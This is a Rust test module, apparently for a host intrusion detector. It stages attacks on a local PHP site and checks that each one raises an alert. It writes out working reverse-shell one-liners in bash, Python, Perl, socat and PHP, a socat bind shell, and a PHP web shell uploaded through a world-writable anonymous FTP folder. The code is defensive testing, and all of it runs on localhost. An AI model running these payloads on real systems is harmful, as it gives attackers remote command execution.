//! Shells whose input and output are the network, by every tool that hosts have; and what a server of files is
//! given by its clients.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpStream;
use std::process::{Command, Stdio};

use rustix::process::Signal;

use crate::attacks::INTRUDER;
use crate::host::{self, Daemon, Outcome, Skip, TempDir, User, free_port, program, wait_for};
use crate::http;
use crate::scene::{Scene, Shared, Story};
use crate::told::{self, CODE, Told};

/// Either the shell is told, or what the shell is reached by.
const SHELLS: &[&str] = &[
    "server-shell",
    "server-reverse-shell",
    "server-shell-connection",
    "server-bind-shell",
    "server-network-tool",
];

/// A way to a shell over the network: `NUMBER` is the intruder's port.
struct Reverse {
    name: &'static str,
    needs: &'static [&'static str],
    php: &'static str,
}

const REVERSE: &[Reverse] = &[
    Reverse {
        name: "reverse: bash and /dev/tcp",
        needs: &["/bin/bash"],
        php: "run(['/bin/bash', '-c', 'bash -i > /dev/tcp/127.0.0.1/NUMBER 0<&1 2>&1']);",
    },
    Reverse {
        name: "reverse: python",
        needs: &["/usr/bin/python3"],
        php: "run(['/usr/bin/python3', '-c', 'import os, socket; s = socket.create_connection((\"127.0.0.1\", NUMBER));\n\
              [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv(\"/bin/sh\", [\"sh\"])']);",
    },
    Reverse {
        name: "reverse: perl",
        needs: &["/usr/bin/perl"],
        php: "run(['/usr/bin/perl', '-MSocket', '-e', 'socket(S, PF_INET, SOCK_STREAM, 6);\n\
              connect(S, sockaddr_in(NUMBER, inet_aton(\"127.0.0.1\"))); open(STDIN, \"<&S\"); open(STDOUT, \">&S\");\n\
              exec \"/bin/sh\"']);",
    },
    Reverse {
        name: "reverse: socat",
        needs: &["/usr/bin/socat"],
        php: "run(['/usr/bin/socat', 'TCP:127.0.0.1:NUMBER', 'EXEC:/bin/sh']);",
    },
    Reverse {
        name: "reverse: php in between",
        needs: &[],
        php: "$s = fsockopen('127.0.0.1', NUMBER);\n\
              $p = proc_open(['/bin/sh'], [['pipe', 'r'], ['pipe', 'w']], $io);\n\
              fwrite($io[0], fgets($s)); fclose($io[0]); fwrite($s, stream_get_contents($io[1]));",
    },
];

pub(crate) fn stories() -> Vec<Story> {
    let mut stories: Vec<Story> = REVERSE
        .iter()
        .map(|way| Story::new(way.name, |scene| reverse(scene, way)))
        .collect();
    stories.push(Story::new("bind: a shell behind a port of socat", bind));
    let ftp = Shared::new(Ftp::start);
    let page = {
        let ftp = ftp.clone();
        move |scene: &Scene| -> Outcome {
            let ftp = ftp.get()?;
            // The anonymous user's folder is one that a web server serves.
            let web = scene.site.docroot().join("uploads");
            let incoming = ftp.dir.join("ftp/incoming");
            rustix::mount::mount_bind(&web, &incoming)
                .map_err(|error| Skip(format!("cannot mount {}: {error}", incoming.display())))?;
            let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                told::expect(scene, "FTP", &[Told::of(CODE, "ftp")], || {
                    ftp.give("shell.php", "<?php system($_GET[0]);");
                    assert!(web.join("shell.php").is_file());
                });
            }));
            rustix::mount::unmount(&incoming, rustix::mount::UnmountFlags::DETACH)
                .expect("unmount");
            if let Err(panic) = outcome {
                std::panic::resume_unwind(panic);
            }
            std::fs::remove_file(web.join("shell.php")).expect("what was uploaded");
            Ok(())
        }
    };
    stories.push(Story::new("ftp: a page is uploaded into a root", page));
    stories.push(Story::new(
        "silent: ftp: a picture is uploaded",
        move |scene| {
            let ftp = ftp.get()?;
            scene.expect_silence("FTP", || ftp.give("photo.png", "PNG"));
            assert!(ftp.dir.join("ftp/incoming/photo.png").is_file());
            Ok(())
        },
    ));
    stories
}

fn reverse(scene: &Scene, way: &Reverse) -> Outcome {
    told::need(way.needs)?;
    let said = host::token();
    let mut intruder = Command::new(program("python3")?)
        .args(["-c", INTRUDER, &format!("echo {said}; exit\n")])
        .stdout(Stdio::piped())
        .spawn()
        .expect("an intruder");
    let mut hears = BufReader::new(intruder.stdout.take().expect("its output"));
    let mut port = String::new();
    hears.read_line(&mut port).expect("its port");
    let php = format!("{} echo 'TOKEN';", way.php.replace("NUMBER", port.trim()));
    let (path, token) = told::put(&scene.site, &php);
    told::expect(scene, way.name, &[Told::of(SHELLS, "php-fpm")], || {
        let response = scene.site.get(&path);
        assert!(response.body.contains(&token), "{response:?}");
        let mut heard = String::new();
        hears.read_to_string(&mut heard).expect("a connection");
        assert!(heard.contains(&said), "{heard}");
        assert!(intruder.wait().expect("its end").success());
    });
    Ok(())
}

/// The intruder comes to the shell.
fn bind(scene: &Scene) -> Outcome {
    told::need(&["/usr/bin/socat"])?;
    let port = free_port();
    let (path, token) = told::put(
        &scene.site,
        &format!(
            "proc_open(['/usr/bin/setsid', '--fork', '/usr/bin/socat', \
             'TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr', 'EXEC:/bin/sh'], \
             [['file', '/dev/null', 'r'], ['file', '/dev/null', 'w'], ['file', '/dev/null', 'w']], $io); echo 'TOKEN';"
        ),
    );
    told::expect(scene, "bind", &[Told::of(SHELLS, "php-fpm")], || {
        assert!(scene.site.get(&path).body.contains(&token));
        let mut stream = wait_for("the port", || TcpStream::connect(("127.0.0.1", port)).ok());
        stream
            .set_read_timeout(Some(host::DEADLINE))
            .expect("a deadline");
        stream
            .write_all(format!("echo {token}; exit\n").as_bytes())
            .expect("an order");
        let mut heard = String::new();
        stream.read_to_string(&mut heard).expect("an answer");
        assert_eq!(heard.trim(), token);
    });
    Ok(())
}

/// vsftpd that takes files of anybody.
struct Ftp {
    _daemon: Daemon,
    dir: TempDir,
    port: u16,
}

impl Ftp {
    fn start() -> Result<Self, Skip> {
        let vsftpd = program("vsftpd")?;
        program("curl")?;
        let user = User::named("www-data")?;
        let dir = TempDir::new("ftp");
        dir.dir("ftp", None);
        dir.dir("empty", None);
        dir.dir("ftp/incoming", Some(&user));
        let port = free_port();
        let root = dir.path().display();
        let config = dir.file(
            "vsftpd.conf",
            &format!(
                "listen=YES\nlisten_address=127.0.0.1\nlisten_port={port}\nbackground=NO\n\
                 anonymous_enable=YES\nno_anon_password=YES\nanon_root={root}/ftp\nftp_username={name}\n\
                 write_enable=YES\nanon_upload_enable=YES\nanon_other_write_enable=YES\nanon_umask=022\n\
                 local_enable=NO\nsecure_chroot_dir={root}/empty\nnopriv_user=nobody\nseccomp_sandbox=NO\n\
                 xferlog_enable=NO\nrun_as_launching_user=NO\n",
                name = user.name
            ),
        );
        let mut daemon = Daemon::start(
            Command::new(vsftpd).arg(config),
            dir.join("out"),
            Signal::TERM,
        );
        daemon.ready("port", || http::accepts(port));
        Ok(Self {
            _daemon: daemon,
            dir,
            port,
        })
    }

    fn give(&self, name: &str, content: &str) {
        let file = self.dir.file(name, content);
        host::run(
            Command::new("/usr/bin/curl")
                .args(["-sS", "--disable-epsv", "-T"])
                .arg(file)
                .arg(format!("ftp://127.0.0.1:{}/incoming/{name}", self.port)),
        );
    }
}
